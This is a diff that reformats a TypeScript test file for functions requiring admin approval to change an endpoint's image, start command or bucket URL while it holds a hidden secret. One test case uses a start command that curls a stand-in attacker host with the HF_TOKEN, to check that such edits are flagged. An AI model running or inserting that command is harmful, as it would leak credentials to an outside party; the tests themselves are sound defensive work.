@@ -30,7 +30,9 @@ function edit(overrides: Partial<ImageAndEnv> = {}): ImageAndEnv {
 }
 
 const withEnv = (key: string, value: string | undefined) => (rows: ImageAndEnv["env"]) =>
-  value === undefined ? rows.filter((row) => row.key !== key) : rows.map((row) => (row.key === key ? { ...row, value } : row));
+  value === undefined
+    ? rows.filter((row) => row.key !== key)
+    : rows.map((row) => (row.key === key ? { ...row, value } : row));
 
 describe("keptHiddenValues", () => {
   it("names the rows that keep a saved secret under its own name", () => {
@@ -56,7 +58,11 @@ describe("changesNeedingAdmin", () => {
     ["the image, only by white space", { image: " team/worker:1 " }, []],
     ["the start command", { command: "sh -c 'curl https://evil.example/?t=$HF_TOKEN'" }, ["command"]],
     ["the bucket URL", { env: withEnv("BUCKET_ENDPOINT_URL", "https://evil.example")(edit().env) }, ["bucketUrl"]],
-    ["image, command and bucket URL", { image: "evil/x:1", command: "x", env: withEnv("BUCKET_ENDPOINT_URL", "https://evil.example")(edit().env) }, ["image", "command", "bucketUrl"]],
+    [
+      "image, command and bucket URL",
+      { image: "evil/x:1", command: "x", env: withEnv("BUCKET_ENDPOINT_URL", "https://evil.example")(edit().env) },
+      ["image", "command", "bucketUrl"],
+    ],
     ["a plain variable", { env: withEnv("MODEL", "flux")(edit().env) }, []],
     // Removing the bucket URL sends the credentials nowhere new.
     ["the bucket URL away", { env: withEnv("BUCKET_ENDPOINT_URL", undefined)(edit().env) }, []],
@@ -69,23 +75,42 @@ describe("changesNeedingAdmin", () => {
 
   it("an endpoint without hidden values lets anyone who may edit change image, command and bucket URL", () => {
     const plain: ImageAndEnv = { image: "team/worker:1", command: "run", env: [{ key: "MODEL", value: "sdxl" }] };
-    expect(changesNeedingAdmin(plain, { image: "other/worker:2", command: "", env: [{ key: "MODEL", value: "sdxl" }, { key: "BUCKET_ENDPOINT_URL", value: "https://x" }] })).toEqual({ kept: [], changes: [] });
+    expect(
+      changesNeedingAdmin(plain, {
+        image: "other/worker:2",
+        command: "",
+        env: [
+          { key: "MODEL", value: "sdxl" },
+          { key: "BUCKET_ENDPOINT_URL", value: "https://x" },
+        ],
+      }),
+    ).toEqual({ kept: [], changes: [] });
   });
 
   it("adding a bucket URL to an endpoint that holds a secret needs an admin", () => {
     const noBucket = { ...current, env: withEnv("BUCKET_ENDPOINT_URL", undefined)(current.env) };
-    const added = edit({ env: [...withEnv("BUCKET_ENDPOINT_URL", undefined)(edit().env), { key: "BUCKET_ENDPOINT_URL", value: "https://evil.example" }] });
+    const added = edit({
+      env: [
+        ...withEnv("BUCKET_ENDPOINT_URL", undefined)(edit().env),
+        { key: "BUCKET_ENDPOINT_URL", value: "https://evil.example" },
+      ],
+    });
     expect(changesNeedingAdmin(noBucket, added)).toEqual({ kept: ["HF_TOKEN"], changes: ["bucketUrl"] });
   });
 });
 
 describe("adminOnlyFieldErrors", () => {
   it("puts one message on each field, in the form's field names, naming the hidden values", () => {
-    const edited = edit({ image: "evil/x:1", command: "x", env: withEnv("BUCKET_ENDPOINT_URL", "https://evil.example")(edit().env) });
+    const edited = edit({
+      image: "evil/x:1",
+      command: "x",
+      env: withEnv("BUCKET_ENDPOINT_URL", "https://evil.example")(edit().env),
+    });
     expect(adminOnlyFieldErrors(changesNeedingAdmin(current, edited), edited.env)).toEqual({
       image: "Only an admin can change the image while this endpoint holds hidden secret values (HF_TOKEN).",
       command: "Only an admin can change the start command while this endpoint holds hidden secret values (HF_TOKEN).",
-      "env.1.value": "Only an admin can change BUCKET_ENDPOINT_URL while this endpoint holds hidden secret values (HF_TOKEN).",
+      "env.1.value":
+        "Only an admin can change BUCKET_ENDPOINT_URL while this endpoint holds hidden secret values (HF_TOKEN).",
     });
     expect(adminOnlyFieldErrors(changesNeedingAdmin(current, edit()), edit().env)).toEqual({});
   });
